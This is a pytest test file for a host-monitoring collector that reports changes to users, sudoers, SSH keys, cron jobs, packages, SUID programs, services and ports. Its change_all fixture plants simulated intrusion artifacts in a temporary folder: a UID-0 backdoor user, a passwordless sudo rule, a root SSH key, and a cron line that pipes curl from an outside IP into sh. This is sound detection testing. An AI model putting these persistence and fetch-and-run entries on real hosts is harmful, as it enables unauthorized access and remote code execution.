"""The collector on a host in a folder, and on the one that it runs on."""

import json
import socket
import time
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from collectors.host import HostWatch, protection, running
from soc_agent.config import HostSource
from tests.collectors.host.making import FINGERPRINT, KEY, make_host, write


class Clock:
    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


class Watched:
    """Looks at a host as often as a test wants."""

    def __init__(self, folder: Path, positions: dict[str, bytes] | None = None, **options: Any) -> None:
        self.options = HostSource(name="may", root=str(folder), host="web01", **options)
        self.clock = Clock()
        self.positions = {} if positions is None else positions
        self.watch = HostWatch(self.options, self.clock)
        assert self.watch.missing() is None
        self.watch.open(self.positions)
        self.facts: dict[str, dict[str, str]] = {}

    def look(self, after_s: float = 0.0) -> list[dict[str, Any]]:
        """Look once; give the changes."""
        self.clock.now += after_s
        lines: list[dict[str, Any]] = []
        while True:
            block = self.watch.read(0.0)
            if block is None:
                break
            assert block.position is not None
            self.positions[block.stream_id] = block.position.state
            lines += [json.loads(line) for line in block.data.splitlines()]
            if block.facts is not None:
                self.facts |= block.facts.sections
        assert [line["event"] for line in lines].count("status") == 1
        return [line for line in lines if line["event"] == "change" and line["what"] not in ("listening_port", "mount")]


def append(folder: Path, name: str, text: str) -> None:
    path = folder / name
    write(folder, name, (path.read_text() if path.exists() else "") + text)


def test_the_first_look_is_silent_and_tells_the_register(tmp_path: Path) -> None:
    make_host(tmp_path)
    host = Watched(tmp_path)
    assert host.look() == []
    assert host.facts["admins"] == {"root": "uid 0", "an": "group sudo"}
    assert host.facts["packages"]["tzdata"] == "2024a-0+deb12u1"
    assert {"ports", "disks", "mounts", "system", "updates", "services"} <= set(host.facts)
    assert host.watch.problems() == []


def test_nothing_changed_says_nothing(tmp_path: Path) -> None:
    make_host(tmp_path)
    host = Watched(tmp_path)
    host.look()
    assert [host.look(60) for _ in range(5)] == [[]] * 5


def change_all(folder: Path) -> None:
    append(folder, "etc/passwd", "backdoor:x:0:0::/root:/bin/sh\n")
    append(folder, "etc/sudoers.d/10-ops", "www ALL=(ALL) NOPASSWD: ALL\n")
    append(folder, "root/.ssh/authorized_keys", f"ssh-ed25519 {KEY} x@y\n")
    append(folder, "etc/cron.d/x", "* * * * * root curl http://198.51.100.7/x|sh\n")
    status = folder / "var/lib/dpkg/status"
    write(
        folder,
        "var/lib/dpkg/status",
        status.read_text().replace(
            "Package: tzdata\nStatus: install ok installed", "Package: tzdata\nStatus: deinstall ok config-files"
        ),
    )
    program = write(folder, "usr/bin/.x", "x")
    program.chmod(0o4755)
    append(folder, "etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/evil\n")


CHANGED = {
    ("user", "added", "backdoor"),
    ("admin", "added", "backdoor"),
    ("sudoers", "added", "/etc/sudoers.d/10-ops: www ALL=(ALL) NOPASSWD: ALL"),
    ("authorized_key", "added", f"root {FINGERPRINT}"),
    ("authorized_key", "added", f"backdoor {FINGERPRINT}"),
    ("cron", "added", "/etc/cron.d/x: * * * * * root curl http://198.51.100.7/x|sh"),
    ("package", "removed", "tzdata"),
    ("suid_program", "added", "/usr/bin/.x"),
    ("service", "added", "evil.service"),
}


def told(lines: list[dict[str, Any]]) -> set[tuple[str, str, str]]:
    return {(line["what"], line["action"], line["item"]) for line in lines}


def test_each_kind_of_change_is_told_once(tmp_path: Path) -> None:
    make_host(tmp_path)
    host = Watched(tmp_path, slow_s=60)
    host.look()
    change_all(tmp_path)
    assert told(host.look(60) + host.look(60)) == CHANGED
    assert host.look(60) == []


def test_what_changed_while_nobody_looked_is_told_at_the_next_start(tmp_path: Path) -> None:
    make_host(tmp_path)
    first = Watched(tmp_path)
    first.look()
    change_all(tmp_path)
    second = Watched(tmp_path, first.positions)
    assert told(second.look() + second.look(60)) == CHANGED
    third = Watched(tmp_path, second.positions)
    assert third.look() == []


def test_what_was_not_committed_is_told_again(tmp_path: Path) -> None:
    make_host(tmp_path)
    first = Watched(tmp_path)
    first.look()
    kept = dict(first.positions)
    change_all(tmp_path)
    first.look(60)
    assert told(Watched(tmp_path, kept).look()) >= {("user", "added", "backdoor")}


def test_a_file_that_did_not_change_is_not_read_again(tmp_path: Path) -> None:
    make_host(tmp_path)
    host = Watched(tmp_path)
    host.look()
    looked: list[str] = []
    watch = host.watch

    def counted(probe: Any) -> Any:
        def look(root: Any) -> Any:
            looked.append(probe.name)
            return probe.look(root)

        return replace(probe, look=look)

    watch._probes = tuple(map(counted, watch._probes))
    host.look(60)
    assert not set(looked) & {"users", "groups", "sudoers", "packages", "authorized_keys", "cron", "suid", "services"}
    append(tmp_path, "etc/passwd", "binh:x:1001:1001::/home/binh:/bin/sh\n")
    host.look(60)
    assert {"users", "admins"} <= set(looked)
    assert "packages" not in looked


def test_a_part_that_cannot_be_read_is_said_and_stays_known(tmp_path: Path) -> None:
    make_host(tmp_path)
    host = Watched(tmp_path)
    host.look()
    path = tmp_path / "etc/sudoers"
    text = path.read_text()
    path.unlink()
    path.symlink_to(path)
    assert host.look(60) == []
    (problem,) = host.watch.problems()
    assert (problem.code, problem.values["part"]) == ("host.unreadable", "sudoers")
    path.unlink()
    path.write_text(text)
    assert host.look(60) == []
    assert host.watch.problems() == []


def test_a_new_listening_port_of_this_host_is_told(tmp_path: Path) -> None:
    make_host(tmp_path)
    host = Watched(tmp_path)
    host.look()
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        host.clock.now += 60
        lines = []
        while (block := host.watch.read(0.0)) is not None:
            lines += [json.loads(line) for line in block.data.splitlines()]
    (line,) = [line for line in lines if line.get("port") == port]
    assert (line["what"], line["action"], line["local"]) == ("listening_port", "added", True)
    assert "python" in line["program"]


class Ports:
    """Looks at ports that a test makes up, as often as it wants."""

    def __init__(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        make_host(folder)
        self.now: dict[str, str] = {"tcp 0.0.0.0:22": "sshd /usr/sbin/sshd"}
        monkeypatch.setattr(running, "ports", lambda _: dict(self.now))
        monkeypatch.setattr(running, "listening_stamp", lambda: tuple(sorted(self.now.items())))
        self.host = Watched(folder, ignore=("suid",))
        self.look()

    def look(self) -> list[tuple[str, str, bool]]:
        self.host.clock.now += 60
        lines = []
        while (block := self.host.watch.read(0.0)) is not None:
            assert block.position is not None
            self.host.positions[block.stream_id] = block.position.state
            lines += [json.loads(line) for line in block.data.splitlines()]
        found = [line for line in lines if line.get("what") == "listening_port"]
        return [(line["action"], line["item"], line.get("returned", False)) for line in found]

    def restart(self) -> None:
        self.host.watch.open(self.host.positions)


def test_the_ports_of_a_name_server_that_asks_are_none_and_a_service_over_udp_is_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ports = Ports(tmp_path, monkeypatch)
    usual = dict(ports.now)
    for look in range(200):
        asked = range(look * 40, look * 40 + 40)
        ports.now = usual | {f"udp 0.0.0.0:{1_024 + number * 137 % 30_000}": "" for number in asked}
        assert ports.look() == [], look
    ports.now = usual | {"udp 0.0.0.0:5060": "sip /usr/bin/sip"}
    assert ports.look() == []
    assert ports.look() == [("added", "udp 0.0.0.0:5060", False)]
    ports.now |= {"udp 0.0.0.0:69": "tftpd /usr/sbin/tftpd"}
    assert ports.look() == [("added", "udp 0.0.0.0:69", False)]


def test_a_service_that_was_started_anew_is_said_to_have_returned(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ports = Ports(tmp_path, monkeypatch)
    usual, ports.now = ports.now, {}
    assert ports.look() == [("removed", "tcp 0.0.0.0:22", False)]
    ports.restart()
    ports.now = dict(usual)
    assert ports.look() == [("added", "tcp 0.0.0.0:22", True)]
    ports.now = {"tcp 0.0.0.0:22": "x /tmp/x"}
    assert ports.look() == [("changed", "tcp 0.0.0.0:22", False)]
    ports.now = {}
    ports.look()
    ports.now = dict(usual)
    assert ports.look() == [("added", "tcp 0.0.0.0:22", False)]


def test_an_antivirus_that_starts_late_or_is_updated_is_not_told_as_gone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    state = {"ClamAV": "running"}
    monkeypatch.setattr(protection, "antivirus", lambda _: dict(state))
    make_host(tmp_path)
    host = Watched(tmp_path, ignore=("suid",))
    host.look()
    for _ in range(3):
        state["ClamAV"] = "not running"
        host.watch.open(host.positions)
        assert [host.look(60) for _ in range(4)] == [[]] * 4
        state["ClamAV"] = "running"
        assert host.look(60) == []
    state["ClamAV"] = "not running"
    told_at = [bool(host.look(3_600 if not look else 60)) for look in range(8)]
    assert told_at == [False] * 4 + [True] + [False] * 3


def test_damaged_state_is_said_and_learnt_anew(tmp_path: Path) -> None:
    make_host(tmp_path)
    first = Watched(tmp_path)
    first.look()
    again = Watched(tmp_path, dict.fromkeys(first.positions, b"{"))
    assert again.look() == []
    assert {problem.code for problem in again.watch.problems()} == {"host.bad_state"}


def test_lines_go_on_where_they_ended(tmp_path: Path) -> None:
    make_host(tmp_path)
    host = Watched(tmp_path)
    ends: dict[str, int] = {}
    for number in range(4):
        append(tmp_path, "etc/passwd", f"u{number}:x:{2000 + number}:1::/:/bin/sh\n")
        while (block := host.watch.read(0.0)) is not None:
            assert block.offset == ends.get(block.stream_id, 0)
            ends[block.stream_id] = block.offset + len(block.data)
        host.clock.now += 60
    assert len(ends) == 2


def test_a_root_without_a_host(tmp_path: Path) -> None:
    problem = HostWatch(HostSource(name="h", root=str(tmp_path / "none"))).missing()
    assert problem is not None
    assert problem.code == "host.no_root"


def test_this_very_host_costs_little(tmp_path: Path) -> None:
    """A look at which nothing changed costs less than half a percent of a minute."""
    watch = HostWatch(HostSource(name="h", ignore=("suid",)), clock := Clock())
    watch.open({})
    assert watch.read(0.0) is not None
    while watch.read(0.0) is not None:
        pass
    begun = time.process_time()
    clock.now += 60
    while watch.read(0.0) is not None:
        pass
    assert time.process_time() - begun < 0.3


def test_a_waiting_read_ends_when_it_is_woken(tmp_path: Path) -> None:
    make_host(tmp_path)
    host = Watched(tmp_path)
    host.look()
    host.watch.wake()
    assert host.watch.read(60.0) is None
